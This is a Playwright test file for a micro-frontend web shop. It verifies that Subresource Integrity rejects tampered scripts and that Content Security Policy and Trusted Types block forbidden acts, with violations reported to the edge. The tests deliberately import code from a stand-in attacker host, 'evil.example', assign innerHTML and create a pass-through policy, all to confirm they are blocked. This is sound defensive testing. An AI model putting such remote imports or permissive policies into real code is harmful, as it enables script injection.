import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures/fixtures.ts';

/** Answers matching scripts with one character more than was released. */
async function tamper(page: Page, pattern: RegExp): Promise<void> {
  await page.route(pattern, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()}\n` });
  });
}

test.describe('a script that differs from its release', () => {
  test.use({ expectedNoise: [/./] });

  test('is refused in a slot, which reports it', async ({ page, product, shop }) => {
    await tamper(page, /\/_mfe\/cart\/.*AddToCartButton.*\.js$/);
    await product.open('tidal-300');

    await expect(shop.tryAgain.first()).toBeVisible();
    await expect(product.name).toHaveText('Tidal 300');
    await expect(product.quantity).toBeVisible();
  });

  test('is refused as a remote that loads later', async ({ page, home, shop }) => {
    await tamper(page, /\/_mfe\/support\/.*\/remoteEntry[^/]*\.js$/);
    await home.open();
    await shop.openChat.click();

    await expect(shop.tryAgain).toBeVisible();
    await expect(shop.main).toBeVisible();
  });

  test('is not run if the start file differs; the rendered page stays readable', async ({
    page,
    home,
  }) => {
    const refused = page.waitForEvent('console', (message) =>
      /digest in the 'integrity' attribute.*\/_mfe\/starts\//.test(message.text()),
    );
    await tamper(page, /\/_mfe\/starts\//);
    await home.open();
    await refused;

    await expect(home.bestsellers).toHaveCount(4);
    expect(await page.evaluate(() => 'horaeFederation' in globalThis)).toBe(false);
  });

  test("is refused as the host's own script; the rendered page stays readable", async ({
    page,
    home,
  }) => {
    const refused = page.waitForEvent('console', (message) =>
      /digest in the 'integrity' attribute.*\/_mfe\/shell\//.test(message.text()),
    );
    await tamper(page, /\/_mfe\/shell\/.*\/index[^/]*\.js$/);
    await home.open();
    await refused;

    await expect(home.bestsellers).toHaveCount(4);
    expect(await page.evaluate(() => 'horaeFederation' in globalThis)).toBe(false);
  });
});

test.describe('a forbidden act of a page is blocked and would fail this suite', () => {
  test.use({ expectedNoise: [/./], expectedViolations: [/./] });

  const ACTS = [
    [
      'running a script of this origin that no release lists',
      /^integrity .*favicon/,
      () => import(`${location.origin}/favicon.svg`),
    ],
    [
      'running a script from elsewhere',
      /^script-src-elem https:\/\/evil\.example/,
      () => import('https://evil.example/a.js'.slice()),
    ],
    [
      'turning text into markup',
      /^require-trusted-types-for trusted-types-sink Element innerHTML/,
      async () => {
        document.body.innerHTML = '<p>hello</p>';
      },
    ],
    [
      'making a policy that lets everything through',
      /^trusted-types trusted-types-policy anything/,
      async () => {
        const { trustedTypes } = globalThis as unknown as {
          trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
        };
        trustedTypes.createPolicy('anything', { createHTML: (html: string) => html });
      },
    ],
  ] as const;

  test('for foreign or unreleased scripts, text as markup and a permissive policy', async ({
    page,
    home,
    blocked,
  }) => {
    await home.open();
    expect(blocked).toEqual([]);

    for (const [what, kind, act] of ACTS) {
      await test.step(what, async () => {
        const failure = await page.evaluate(act).then(
          () => null,
          (error: Error) => error.message,
        );
        expect(failure).not.toBeNull();
        await expect.poll(() => blocked.splice(0)).toEqual([expect.stringMatching(kind)]);
      });
    }
    expect(blocked).toEqual([]);
  });

  test('and is reported to the edge', async ({ page, home }) => {
    const received = async (): Promise<number> => {
      const headers = { 'x-qa-token': process.env.QA_TOKEN ?? 'embedded-qa' };
      const { violations } = await (await page.request.get('/healthz', { headers })).json();
      return violations['script-src-elem https://evil.example/a.js'] ?? 0;
    };
    await home.open();
    const before = await received();
    await page.evaluate(() => import('https://evil.example/a.js'.slice()).catch(() => 'blocked'));

    await expect.poll(received).toBeGreaterThan(before);
  });
});
